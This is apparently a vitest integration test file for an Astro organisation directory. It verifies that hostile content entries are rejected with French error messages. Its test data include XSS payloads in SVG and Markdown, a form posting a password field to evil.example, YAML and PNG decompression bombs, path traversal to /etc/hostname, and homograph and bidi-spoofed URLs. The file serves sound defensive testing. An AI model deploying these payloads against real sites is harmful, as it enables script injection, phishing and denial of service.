import { cp, mkdir, readFile, readdir, rm, symlink, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { crc32 } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { expectReportLine } from '../support/report';
import { buildInProcess, createTempProject, PROJECT_ROOT, type CommandResult, type TempProject } from '../support/temp-project';

/**
 * Entries written as an attacker would, or as an unlucky owner does. All the refused ones sit in one copy of the
 * site and are reported by one `astro sync` (every problem at once, as the owner sees them); the accepted ones
 * are then built, and the page checked. The schema's own messages are unit-tested (tests/unit/schema.test.ts).
 */

const SLOW = 180_000;

/** A file's bytes, or a symbolic link to another file (a path from the organisations folder). */
type File = string | Buffer | { linkTo: string };

/** What a case changes in a valid entry, `logo: null` leaving the field out; `image` is its logo `cas-<id>.<extension>`. */
interface Parts {
  header?: string;
  logo?: string | null;
  body?: string;
  image?: [extension: string, content: string | Buffer];
  /** The entry's file name (`cas-<id>.md`), the one the report names (that file), other files (paths from the entry's folder). */
  file?: string;
  reported?: string;
  also?: Record<string, File>;
}

/** A complete, valid entry (its logo is `logo-valide.png`) whose parts can be replaced. */
function entry(id: string, { header = '', logo = './logo-valide.png', body = 'Une description.' }: Parts = {}): string {
  const name = /^name:/m.test(header) ? '' : `name: Cas hostile ${id}\n`;
  const url = /^url:/m.test(header) ? '' : `url: https://cas-${id}.example/\n`;
  return `---\n${name}${url}${logo === null ? '' : `logo: ${logo}\n`}category: solidarite\n${header}---\n\n${body}\n`;
}

function refused(id: string, attack: string, field: string, says: string | RegExp, parts: Parts = {}) {
  const { image, file = `cas-${id}.md`, reported = file, also = {} } = parts;
  const logo = image ? `cas-${id}.${image[0]}` : undefined;
  const files: Record<string, File> = { ...also, [file]: entry(id, logo ? { logo: `./${logo}`, ...parts } : parts) };
  if (image && logo) files[logo] = image[1];
  return { attack, reported, field, says, files };
}

async function writeFiles(folder: string, files: Record<string, File>) {
  for (const [name, content] of Object.entries(files)) {
    const path = join(folder, name);
    await mkdir(dirname(path), { recursive: true });
    if (typeof content === 'string' || Buffer.isBuffer(content)) await writeFile(path, content);
    else await symlink(join(folder, content.linkTo), path);
  }
}

const svg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="600" height="200"${attributes}>${inside}<rect width="600" height="200" fill="#3366aa"/></svg>`;

/** A valid SVG drawing of 3 MB: 75,000 small triangles, as an unoptimised export holds. */
const HEAVY_SVG = svg('<path d="M0 0l7 3-4 6z" fill="#3366aa"/>'.repeat(75_000), ' viewBox="0 0 600 200"');

const image = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#3366aa' } })
    .png()
    .toBuffer();
const PNG = await image(600, 200);

/** A PNG whose header says 30000×30000 but whose pixels are never stored: a decompression bomb. */
const BOMB = Buffer.from(await image(1, 1));
// The IHDR chunk starts at byte 8: length (4), type (4), width (4), height (4), …, then its CRC.
BOMB.writeUInt32BE(30_000, 16);
BOMB.writeUInt32BE(30_000, 20);
BOMB.writeUInt32BE(crc32(BOMB.subarray(12, 29)), 29);

const ALIAS_BOMB = [
  'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
  ...[...'bcdefghi'].map((name, index) => `${name}: &${name} [${Array(9).fill(`*${'abcdefgh'[index]}`).join(',')}]`),
].join('\n');

// Three 1×1 frames, looping (GIF89a with the NETSCAPE2.0 extension): the animation is refused before its size.
const ANIMATED_GIF = Buffer.from(
  'R0lGODlhAQABAIAAADNmqv///yH/C05FVFNDQVBFMi4wAwEAAAAh+QQACgAAACwAAAAAAQABAAACAkQBACH5BAAKAAAALAAAAAABAAEAAAICRAEAIfkEAAoAAAAsAAAAAAEAAQAAAgJEAQA7',
  'base64',
);

// A table, one case a row: what is tried, the field and the words of the report on the first line, the files after.
// prettier-ignore
const REFUSED = [
  // 0. The owner's everyday mistakes that only the pipeline sees (duplicates and empty descriptions: tests/unit/entry-checks.test.ts).
  refused('60', 'a header that is not valid YAML', 'en-tête', /l’en-tête est mal écrit \(vers la ligne \d+\).*guillemets/,
    { header: 'name: [Cas hostile 60\n' }),
  refused('61', 'a logo path that points to no file', 'logo', /le fichier « \.\/introuvable\.png » est introuvable.*logo-valide\.png/,
    { logo: './introuvable.png' }),
  refused('62', 'a logo that is not an image', 'logo', 'n’est pas une image lisible', { image: ['png', 'ceci est du texte'] }),
  refused('63', 'a logo too small to look sharp', 'logo', /fait 200×50 px : trop petit.*au moins 448×112 px/,
    { image: ['png', await image(200, 50)] }),
  refused('64', 'a logo given as a web address', 'logo', 'est une adresse web : téléchargez le logo',
    { logo: 'https://exemple.org/logo.png' }),
  refused('65', 'no logo field at all', 'logo', 'le champ manque : ajoutez « logo: ./nom-du-fichier.png »', { logo: null }),
  refused('66', 'two files for one id (Cas-66.md beside cas-66.md)', 'nom du fichier',
    'ce fichier et src/content/organisations/Cas-66.md donnent la même fiche « cas-66 »', { also: { 'Cas-66.md': entry('66b') } }),
  refused('67', 'an entry Astro would skip because of its extension', 'nom du fichier', 'Renommez-le en notes.md', { file: 'notes.MD' }),

  // 1. SVG logos: anything beyond a static drawing.
  refused('01', 'an SVG logo with a script', 'logo', 'un script (<script>)',
    { image: ['svg', svg('<script>alert(document.domain)</script>')] }),
  refused('02', 'an SVG logo with an event handler', 'logo', 'un attribut d’événement « onload »',
    { image: ['svg', svg('', ' onload="alert(1)"')] }),
  refused('03', 'an SVG logo with HTML inside (foreignObject)', 'logo', 'du HTML (<foreignObject>)', { image: ['svg', svg(
    '<foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"></iframe></foreignObject>',
  )] }),
  refused('04', 'an SVG logo with a javascript: link', 'logo', 'un lien javascript:',
    { image: ['svg', svg('<a href="javascript:alert(1)"><text y="20">x</text></a>')] }),
  refused('05', 'an SVG logo that loads a remote image (a tracker)', 'logo', 'une référence externe « https://tracker.example/p.gif »',
    { image: ['svg', svg('<image href="https://tracker.example/p.gif" width="1" height="1"/>')] }),
  refused('06', 'an SVG logo that imports a remote stylesheet', 'logo', 'une feuille de style qui en importe une autre (@import)',
    { image: ['svg', svg('<style>@import url(https://evil.example/a.css);</style>')] }),
  refused('07', 'an SVG logo with a remote font', 'logo', 'une référence externe « url(https://fonts.example/f.woff2) »',
    { image: ['svg', svg('<style>@font-face{font-family:x;src:url(https://fonts.example/f.woff2)}</style>')] }),
  refused('08', 'an SVG logo using a remote sprite', 'logo', 'une référence externe « https://cdn.example/sprite.svg#logo »',
    { image: ['svg', svg('<use href="https://cdn.example/sprite.svg#logo"/>')] }),
  refused('09', 'an SVG logo with XInclude (reads a file beside it)', 'logo', 'une inclusion XInclude',
    { image: ['svg', svg('<xi:include href="cas-09.md" parse="text"/>', ' xmlns:xi="http://www.w3.org/2001/XInclude"')] }),
  refused('10', 'an SVG logo with XML entities', 'logo', 'une déclaration <!DOCTYPE> ou <!ENTITY>', { image: ['svg',
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>${svg('<text y="20">&b;</text>')}`,
  ] }),
  refused('11', 'an SVG logo whose animation turns a link into javascript:', 'logo', 'une animation qui change « href »',
    { image: ['svg', svg('<a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a>')] }),
  refused('12', 'an SVG logo with an external XML stylesheet', 'logo', 'une feuille de style externe (<?xml-stylesheet?>)',
    { image: ['svg', `<?xml-stylesheet href="https://evil.example/s.css"?>${svg('')}`] }),
  refused('13', 'an SVG logo painting with a remote resource', 'logo', 'une référence externe « url(https://evil.example/p.svg#g) »',
    { image: ['svg', svg('<rect fill="url(https://evil.example/p.svg#g)" width="10" height="10"/>')] }),
  refused('14', 'a PNG named .svg', 'logo', 'est en réalité une image PNG, pas ce qu’annonce son extension : renommez-le « cas-14.png »',
    { image: ['svg', PNG] }),
  refused('15', 'an SVG named .png', 'logo', 'est en réalité une image SVG, pas ce qu’annonce son extension : renommez-le « cas-15.svg »',
    { image: ['png', svg('')] }),
  refused('16', 'a valid SVG with a namespace prefix', 'logo', 'un élément racine « svg:svg » au lieu de « svg »', { image: ['svg',
    '<svg:svg xmlns:svg="http://www.w3.org/2000/svg" width="600" height="200"><svg:rect width="600" height="200" fill="#3366aa"/></svg:svg>',
  ] }),
  refused('17', 'an SVG logo with a javascript: xlink', 'logo', 'un lien javascript:', { image: ['svg',
    svg('<a xlink:href="javascript:alert(1)"><text y="20">x</text></a>', ' xmlns:xlink="http://www.w3.org/1999/xlink"'),
  ] }),

  // 2. Descriptions: checked as rendered, whatever spans lines.
  refused('18', 'a meta refresh split over two lines', 'description',
    'du HTML (« <meta… ») est écrit dans la description, ligne 3 du texte',
    { body: 'Une association.\n\n<meta\nhttp-equiv="refresh" content="0;url=https://evil.example/">' }),
  refused('19', 'an iframe', 'description', 'du HTML (« <iframe… »)',
    { body: 'Voir :\n\n<iframe\n  src="https://evil.example/"></iframe>' }),
  refused('20', 'a form', 'description', 'du HTML (« <form… »)',
    { body: '<form action="https://evil.example/"><input name="password"></form>' }),
  refused('21', 'a Markdown image from a tracker', 'description', 'une image est insérée dans la description, ligne 1 du texte',
    { body: '![](https://tracker.example/pixel.gif) Une association.' }),
  refused('22', 'an img tag with an event handler', 'description', 'du HTML (« <img… »)',
    { body: 'Une association.\n<img src="x"\n onerror="alert(1)">' }),
  refused('23', 'a script', 'description', 'du HTML (« <script… »)', { body: 'Une association.\n\n<script>alert(1)</script>' }),
  refused('24', 'an HTML comment', 'description', 'du HTML (« <!--… »)', { body: 'Une association. <!-- <script>alert(1)</script> -->' }),
  refused('25', 'inline styles in raw HTML', 'description', 'du HTML (« <span… »)',
    { body: 'Une <span style="position:fixed;inset:0">association</span>.' }),
  refused('26', 'a javascript: link', 'description', 'le lien « javascript:alert(1) » n’est pas une adresse web',
    { body: '[Cliquez ici](javascript:alert(1))' }),
  refused('27', 'a data: link', 'description', /le lien « data:text\/html[^»]* » n’est pas une adresse web/,
    { body: '[Cliquez ici](data:text/html,<script>alert(1)</script>)' }),
  refused('28', 'a heading that breaks the page outline', 'description', 'la description contient un titre',
    { body: '# Donnez maintenant\n\nUne association.' }),
  refused('29', 'a description link with user info', 'description', 'contient « …@ » avant son site',
    { body: '[Le site](https://www.lemediatv.fr@evil.example/)' }),

  // 3. Links that lie.
  refused('30', 'an address with user info', 'url', '« https://www.lemediatv.fr@evil.example/ » contient « …@ » avant le nom du site',
    { header: 'url: https://www.lemediatv.fr@evil.example/\n' }),
  refused('31', 'a call to action with user info', 'cta.url', 'contient « …@ » avant le nom du site (« cta.url »)',
    { header: 'cta:\n  label: Faire un don\n  url: https://don.example@evil.example/\n' }),
  refused('32', 'a host with one Cyrillic letter (homograph of Le Média)', 'url',
    'le nom de site « lеmediatv » (« url ») mélange des alphabets',
    { header: 'url: https://www.lеmediatv.fr/\n' }),
  refused('33', 'a host written entirely in lookalike letters of an existing entry’s host', 'url',
    '« https://www.рор.example/ » est déjà utilisé par src/content/organisations/cas-33-a.md', { file: 'cas-33-b.md',
      header: 'url: https://www.рор.example/\n', also: { 'cas-33-a.md': entry('33a', { header: 'url: https://pop.example/\n' }) } }),
  refused('34', 'a name reversed by a bidi control', 'name',
    '« name » contient un caractère invisible qui inverse le sens du texte (U+202E)',
    { header: 'name: "Croix\u202eeguoR"\n' }),
  refused('35', 'a call-to-action label with a bidi isolate', 'cta.label', '(U+2067)',
    { header: 'cta:\n  label: "Faire un \u2067don"\n  url: https://don.example/\n' }),

  // 4. Images that are not what they seem.
  refused('36', 'an animated GIF (its frames would be stacked into one tall image)', 'logo',
    'est animé (3 images) : un logo de carte est une image fixe', { image: ['gif', ANIMATED_GIF] }),
  refused('37', 'a PNG that claims 30000×30000 pixels (a decompression bomb)', 'logo',
    'fait 30000×30000 px : trop grand (plus de 268 millions de pixels)', { image: ['png', BOMB] }),
  refused('38', 'a logo path leaving the folder', 'logo', '« ../../../package.json » n’est pas dans le dossier de la fiche',
    { logo: '../../../package.json' }),
  refused('39', 'an absolute logo path', 'logo', '« /etc/hostname » n’est pas dans le dossier de la fiche', { logo: '/etc/hostname' }),
  refused('40', 'a logo that is a symbolic link out of the folder', 'logo', '« ./cas-40.png » n’est pas dans le dossier de la fiche',
    { logo: './cas-40.png', also: { '../../../ailleurs.png': PNG, 'cas-40.png': { linkTo: '../../../ailleurs.png' } } }),

  // 5. Cheap denial of service.
  refused('41', 'a YAML alias bomb (« billion laughs »)', 'en-tête', 'l’en-tête répète trop de valeurs par des alias YAML',
    { header: `${ALIAS_BOMB}\n` }),

  // 6. Dates and files that used to pass silently.
  refused('42', 'a date that does not exist', 'since', '« 2024-02-30 » n’est pas une date qui existe (« since »)',
    { header: 'since: 2024-02-30\n' }),
  refused('43', 'a support starting in the future', 'since', '« 2099-01 » est dans le futur (« since »)', { header: 'since: 2099-01\n' }),
  refused('44', 'a support starting before the organisation could exist', 'since', '« 1789-07 » est avant 1900 (« since »)',
    { header: 'since: 1789-07\n' }),
  refused('45', 'an entry hidden in a sub-folder', 'dossier', 'ce dossier contient des fiches qui ne sont pas lues',
    { file: 'archives/cas-45.md', reported: 'archives/' }),
  refused('46', 'a hidden entry file', 'nom du fichier',
    'ce fichier est ignoré parce que son nom commence par un point (fichier caché) : renommez-le cas-46.md', { file: '.cas-46.md' }),

  // 7. The last holes: what still reached the page, the exports or a stack trace.
  refused('48', 'an SVG logo of 3 MB of paths (published as is, above the 100 kB budget)', 'logo',
    /pèse 3(,\d)? Mo : un SVG est publié tel quel, et un logo doit peser 100 Ko au plus/, { image: ['svg', HEAVY_SVG] }),
  refused('49', 'an address with a space (encoded by the URL parser, invalid in the JSON-LD)', 'url',
    '« https://exemple.org/ with space » contient une espace (« url »)', { header: 'url: https://exemple.org/ with space\n' }),
  refused('50', 'a call to action with a space in its address', 'cta.url', 'contient une espace (« cta.url »)',
    { header: 'cta:\n  label: Faire un don\n  url: https://cas-50.example/faire un don\n' }),
  refused('51', 'a YAML tag that Astro’s YAML reader stops on with a stack trace', 'name', 'étiquette YAML « !!js/function »',
    { header: 'name: !!js/function "function () { return 1; }"\n' }),
  refused('52', 'a custom YAML tag in a nested field', 'cta.label', 'étiquette YAML « !don »',
    { header: 'cta:\n  label: !don Faire un don\n  url: https://cas-52.example/\n' }),

  // 8. A bad value of the support's story reaches the owner with its file (each value's message: tests/unit/schema.test.ts).
  refused('55', 'a support that ends in the future', 'until', '« 2099-12 » est dans le futur (« until »)', { header: 'until: 2099-12\n' }),
];

/** Entries that look hostile but are fine: they build, and what the page shows is harmless. */
const ACCEPTED = join(PROJECT_ROOT, 'tests/fixtures/hostile-but-safe');

let project: TempProject;
let sync: CommandResult;

beforeAll(async () => {
  project = await createTempProject();
  await writeFile(join(project.organisations, 'logo-valide.png'), PNG);
  for (const { files } of REFUSED) await writeFiles(project.organisations, files);
  const started = Date.now();
  sync = await project.astro(['sync']);
  // Every case at once, the alias bomb and the 30000×30000 PNG included.
  expect(Date.now() - started, 'the hostile entries took too long to refuse').toBeLessThan(30_000);
}, SLOW);
afterAll(() => project.remove());

describe('hostile entries are refused with the file, the field and the fix', () => {
  it('the catalogue holds at least 40 attacks; the sync fails, publishes nothing, and blames no real entry for a homograph', async () => {
    expect(REFUSED.length + (await readdir(ACCEPTED)).filter((name) => name.endsWith('.md')).length).toBeGreaterThanOrEqual(40);
    expect(sync.code, sync.output).not.toBe(0);
    await expect(readdir(join(project.dir, 'dist'))).rejects.toThrow();
    // The homographs of Le Média (cases 30 and 32) do not get the real entry blamed as their duplicate.
    expect(sync.output).not.toContain('src/content/organisations/le-media.md');
  });

  it.each(REFUSED.map((hostile) => [hostile.attack, hostile] as const))('%s', (_, { reported, field, says }) => {
    expectReportLine(sync.output, `src/content/organisations/${reported}`, field, says);
  });
});

describe('entries that only look hostile build into a safe page', () => {
  let html = '';
  let rss = '';

  beforeAll(async () => {
    for (const name of await readdir(project.organisations)) {
      if (/^\.?cas-/i.test(name) || name === 'archives' || name === 'notes.MD')
        await rm(join(project.organisations, name), { recursive: true });
    }
    await cp(ACCEPTED, project.organisations, { recursive: true });
    const build = await buildInProcess(project.dir);
    expect(build.code, build.output).toBe(0);
    html = await readFile(join(project.dir, 'dist/index.html'), 'utf8');
    rss = await readFile(join(project.dir, 'dist/rss.xml'), 'utf8');
  }, SLOW);

  it('an AVIF logo is accepted and served optimized (it was refused as unreadable)', () => {
    expect(html).toMatch(/<source[^>]+srcset="[^"]*sure-01[^"]*\.avif/);
  });

  it('HTML shown as code stays text, on the page and in the feed', () => {
    expect(html).toContain('<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>');
    expect([...html.matchAll(/<script\b/g)]).toHaveLength(1); // the JSON-LD block only
    expect(rss).not.toMatch(/<script/i);
  });

  it('a safe SVG is published byte for byte, once', async () => {
    const published = html.match(/src="([^"]*sure-03[^"]*\.svg)"/)?.[1] ?? '';
    expect(published).not.toBe('');
    const svgs = (await readdir(join(project.dir, 'dist/_astro'))).filter((name) => name.endsWith('.svg'));
    const file = svgs.find((name) => published.endsWith(name)) ?? '';
    expect(await readFile(join(project.dir, 'dist/_astro', file))).toEqual(await readFile(join(ACCEPTED, 'sure-03.svg')));
    // Not a second copy of the same bytes under another name (the original beside <Image>'s pass-through).
    expect(svgs.filter((name) => name.startsWith('sure-03'))).toEqual([file]);
  });

  it('an SVG declared 5000×5000 is drawn on the social image', async () => {
    const { width, height } = await sharp(join(project.dir, 'dist/og-image.png')).metadata();
    expect({ width, height }).toEqual({ width: 1200, height: 630 });
    expect(html).toMatch(/src="[^"]*sure-05[^"]*\.svg"/);
  });

  it('a name with tags is shown as text, and mailto and in-page links are kept', () => {
    expect(html).toContain('Nom &lt;b&gt;pas du HTML&lt;/b&gt;');
    expect(html).toContain('href="mailto:contact@sure-04.example"');
    expect(html).toMatch(/<time datetime="2021-03"[^>]*>mars 2021<\/time>/);
  });
});
